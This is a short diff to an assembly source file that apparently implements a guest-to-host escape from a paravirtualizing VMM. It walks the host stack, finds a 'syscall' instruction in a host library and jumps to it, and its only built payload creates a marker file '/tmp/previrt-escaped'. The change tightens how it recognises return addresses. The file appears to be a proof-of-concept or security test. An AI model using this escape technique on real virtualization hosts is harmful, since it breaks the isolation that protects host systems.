@@ -3,7 +3,7 @@
  * 64-bit code segment (0x33), where segment limits no longer apply; read
  * the VMM's register context at PV_CTX (0xff803000) for the host stack
  * pointer; walk the host stack for a return address into a host library
- * (0x7f.. and preceded by a call); scan that library's code for a
+ * (0x7f.., not page-aligned, and preceded by a call); scan that library's code for a
  * `syscall` instruction (0f 05, any alignment); jump there with a system
  * call of its choice.  Built once per call (-DCALL_x):
  *   open    openat(AT_FDCWD, "/tmp/previrt-escaped", O_CREAT|O_WRONLY, 0644)
@@ -50,6 +50,9 @@ next_word:
 	xor	%rsi, %rdx
 	shr	$32, %rdx
 	jz	next_word			/* a stack address, not code */
+	test	$0xfff, %eax
+	jz	next_word			/* page-aligned: the base of a mapping the
+						   VMM keeps (some PROT_NONE), not code */
 	cmpb	$0xe8, -5(%rax)			/* a return address after a call rel32 */
 	je	scan
 	cmpb	$0xff, -2(%rax)			/* or after call *%reg */
